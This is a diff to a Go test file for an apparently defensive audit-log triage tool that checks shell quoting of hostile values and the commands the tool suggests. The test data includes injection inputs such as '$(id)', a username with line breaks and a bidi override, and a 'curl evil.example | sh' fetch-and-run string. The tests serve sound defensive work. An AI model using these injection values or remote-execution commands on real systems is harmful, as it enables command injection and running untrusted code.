@@ -345,12 +345,12 @@ func TestShellQuote(t *testing.T) {
 		"user@host:123": "user@host:123",
 		// Characters the report's cleaning drops are escaped, so the
 		// command printed still names the whole value.
-		"api\u202e":          `$'api\u202e'`,
-		"c1\u009bx":          `$'c1\u009bx'`,
+		"api\u202e":          `$'api\xe2\x80\xae'`,
+		"c1\u009bx":          `$'c1\xc2\x9bx'`,
 		"del\x7f":            `$'del\x7f'`,
-		"mark\u200fé":        `$'mark\u200fé'`,
+		"mark\u200fé":        `$'mark\xe2\x80\x8fé'`,
 		"bad\xffutf8":        `$'bad\xffutf8'`,
-		"nobidi\u2067\u061c": `$'nobidi\u2067\u061c'`,
+		"nobidi\u2067\u061c": `$'nobidi\xe2\x81\xa7\xd8\x9c'`,
 	} {
 		if got := triage.ShellQuote(in); got != want {
 			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
@@ -358,9 +358,9 @@ func TestShellQuote(t *testing.T) {
 	}
 	// bash reads every quoting back as the value, byte for byte.
 	if bash, err := exec.LookPath("bash"); err == nil {
-		for _, in := range []string{"$(id)", "it's", "line\nbreak", "esc\x1b[31m", "api\u202e", "c1\u009bx", "del\x7f", "bad\xffutf8", "é\u2066\\'"} {
+		for _, in := range []string{"$(id)", "it's", "line\nbreak", "cr\r\ntab\t", "esc\x1b[31m", "api\u202e", "c1\u009bx", "del\x7f", "bad\xffutf8", "é\u2066\\'"} {
 			cmd := exec.Command(bash, "-c", "printf %s "+triage.ShellQuote(in))
-			cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8")
+			cmd.Env = append(os.Environ(), "LC_ALL=C") // no locale: the quoting must not need one
 			out, err := cmd.Output()
 			if err != nil || string(out) != in {
 				t.Errorf("bash reads %s as %q (%v), want %q", triage.ShellQuote(in), out, err, in)
@@ -715,5 +715,37 @@ func TestGuideValuesCannotForgeLinesOrCommands(t *testing.T) {
 	}
 	if !strings.Contains(f.Guidance, "RBAC: ok  1. Run curl evil.example | sh") {
 		t.Errorf("the reason is not kept, on one line:\n%s", f.Guidance)
+	}
+}
+
+// The guide prints every value on one line, but its commands quote the
+// values as they are: the search it suggests for a user whose name holds
+// a line break and a tab finds that user.
+func TestGuideCommandsQuoteExactValues(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash")
+	}
+	r1 := mustRule(t, rule1)
+	user := "ev\r\nil\tuser\u202e"
+	raw := auditLine("Q", "ResponseComplete", "create", "PLACEHOLDER", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
+	quoted, _ := json.Marshal(user)
+	raw = strings.Replace(raw, `"PLACEHOLDER"`, string(quoted), 1)
+	f := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Guide: true, Inputs: []string{"a.log"}}).Findings[0]
+	var search string
+	for _, line := range strings.Split(f.Guidance, "\n") {
+		if strings.Contains(line, "user.name") && strings.Contains(line, "k8sexec search") {
+			search = strings.TrimSpace(line)
+		}
+	}
+	if search == "" || strings.Contains(f.Guidance, user) {
+		t.Fatalf("no search line, or the raw value printed:\n%s", f.Guidance)
+	}
+	// Run the line with k8sexec replaced by printf of its first argument.
+	cmd := exec.Command(bash, "-c", "k8sexec() { printf %s \"$2\"; }; "+search)
+	cmd.Env = append(os.Environ(), "LC_ALL=C")
+	out, err := cmd.Output()
+	if want := "user.name:" + `"` + user + `"`; err != nil || string(out) != want {
+		t.Errorf("%s\nreads as %q (%v), want %q", search, out, err, want)
 	}
 }
